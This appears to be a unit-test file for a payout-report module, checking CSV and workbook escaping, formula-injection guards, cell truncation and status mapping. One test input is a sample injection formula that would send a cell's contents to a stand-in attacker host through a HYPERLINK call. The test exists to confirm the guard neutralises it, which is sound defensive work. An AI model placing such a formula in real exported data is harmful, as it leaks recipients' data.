import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EXCEPTION_KINDS } from '../../src/domain/exception-kinds.js';
import { PAYOUT_STATUSES } from '../../src/domain/payout-status.js';
import { guardCsvText, MAX_CELL_CHARS, needsQuotePrefix, normaliseCellText, TRUNCATION_MARKER } from '../../src/reports/writers/cell-text.js';
import { formatReasons } from '../../src/reports/rows/payout-rows.js';
import { EXCEPTION_PRIORITY, reconciliationOutcome, reportStatus } from '../../src/reports/rows/reconciliation-outcome.js';
import { columnLetters, escapeCellText, escapeXml } from '../../src/reports/writers/xlsx/xlsx-xml.js';

describe('cell text: normaliser, then formula guard', () => {
  it.each(['=HYPERLINK("http://x","y")', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', ' =1', '\u200B=1', '\uFEFF\u00A0@x', '\tplain', '\rplain'])(
    'guards %j in CSV and asks for quotePrefix in the workbook',
    (text) => {
      expect(guardCsvText(text)).toBe(`'${text}`);
      expect(needsQuotePrefix(text)).toBe(true);
    },
  );

  it('normalises before guarding: a control character in front cannot hide a formula', () => {
    expect(guardCsvText('\u0000=HYPERLINK("http://evil.example/?leak="&C2,"Click")')).toBe('\'=HYPERLINK("http://evil.example/?leak="&C2,"Click")');
    expect(guardCsvText('\u0001\u001F-2')).toBe("'-2");
    expect(normaliseCellText('a\u0007b\uFFFEc\uFFFFd\tline\r\nend')).toBe('abcd\tline\r\nend');
    expect(normaliseCellText('lone \uD800 and \uDC00, pair 😀')).toBe('lone \uFFFD and \uFFFD, pair 😀');
  });

  it('marks text that looks like a number for quotePrefix, and leaves words alone', () => {
    for (const text of ['-777', '0012', '1e5', '12.50', '1,234', '2026-10-01', '10:30', 'TRUE', '50%']) expect(needsQuotePrefix(text), text).toBe(true);
    for (const text of ['INV-7', 'abc', 'Payout 12', 'e5', '', 'true story', 'KWD']) expect(needsQuotePrefix(text), text).toBe(false);
    expect(guardCsvText('0012')).toBe('0012');
  });

  it('guards exactly the text that starts, past whitespace and zero-width characters, with a trigger', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 12 }), (text) => {
        const normal = normaliseCellText(text);
        const out = guardCsvText(text);
        const visible = normal.replace(/^[\s\u200B-\u200D\u2060\u180E\uFEFF]*/u, '');
        const lead = normal.slice(0, normal.length - visible.length);
        const trigger = /[\t\r]/.test(lead) || /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(visible);
        expect(out).toBe(trigger ? `'${normal}` : normal);
      }),
    );
  });

  it('cuts at 32,767 UTF-16 units on a code-point boundary, with a visible marker', () => {
    expect(normaliseCellText('x'.repeat(MAX_CELL_CHARS))).toHaveLength(MAX_CELL_CHARS);
    const cut = normaliseCellText('x'.repeat(MAX_CELL_CHARS + 10));
    expect(cut).toHaveLength(MAX_CELL_CHARS);
    expect(cut.endsWith(TRUNCATION_MARKER)).toBe(true);
    const pairs = normaliseCellText('😀'.repeat(MAX_CELL_CHARS));
    expect(pairs.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
    expect(pairs).toBe(normaliseCellText(pairs)); // no half pair left to replace
    expect(pairs).not.toContain('\uFFFD');
  });
});

describe('report vocabulary', () => {
  it('ranks every exception kind exactly once', () => {
    expect([...EXCEPTION_PRIORITY].sort()).toEqual([...EXCEPTION_KINDS].sort());
  });

  it('puts every non-final status under open', () => {
    expect(PAYOUT_STATUSES.map(reportStatus)).toEqual(['open', 'open', 'open', 'succeeded', 'failed', 'cancelled', 'expired', 'open']);
    expect(reportStatus('something new')).toBe('open');
  });

  it('prefers a match, then the most important open exception, then unreconciled', () => {
    expect(reconciliationOutcome(true, ['amount_mismatch'])).toBe('matched');
    expect(reconciliationOutcome(false, ['stuck_payout', 'amount_mismatch', 'status_mismatch'])).toBe('amount_mismatch');
    expect(reconciliationOutcome(false, ['stuck_payout', 'suspected_manual_refund'])).toBe('suspected_manual_refund');
    expect(reconciliationOutcome(false, ['future_kind', 'stuck_payout'])).toBe('stuck_payout');
    expect(reconciliationOutcome(false, [])).toBe('unreconciled');
  });

  it('prints provider reasons as one line', () => {
    expect(formatReasons('[{"code":"R03","info":"No account"},{"code":"X","info":null}]')).toBe('R03: No account; X');
    expect(formatReasons('[]')).toBeNull();
    expect(formatReasons(null)).toBeNull();
    expect(formatReasons('not json')).toBe('not json');
  });
});

describe('SpreadsheetML text', () => {
  it('escapes markup and drops what XML cannot carry', () => {
    expect(escapeXml('a & b <c> "d"')).toBe('a &amp; b &lt;c&gt; &quot;d&quot;');
    expect(escapeXml('bell\u0007 tab\t')).toBe('bell tab\t');
    expect(escapeXml('lone \uD800 surrogate, pair 😀')).toBe('lone \uFFFD surrogate, pair 😀');
    expect(escapeXml('plain')).toBe('plain');
  });

  it('names columns like a spreadsheet', () => {
    expect([0, 1, 25, 26, 27, 51, 52, 701, 702].map(columnLetters)).toEqual(['A', 'B', 'Z', 'AA', 'AB', 'AZ', 'BA', 'ZZ', 'AAA']);
  });

  it('escapes a literal _xHHHH_ so readers do not decode it', () => {
    expect(escapeCellText('Invoice_x0041_B & _x00e9_')).toBe('Invoice_x005F_x0041_B &amp; _x005F_x00e9_');
    expect(escapeCellText('_x41_ stays')).toBe('_x41_ stays');
  });
});
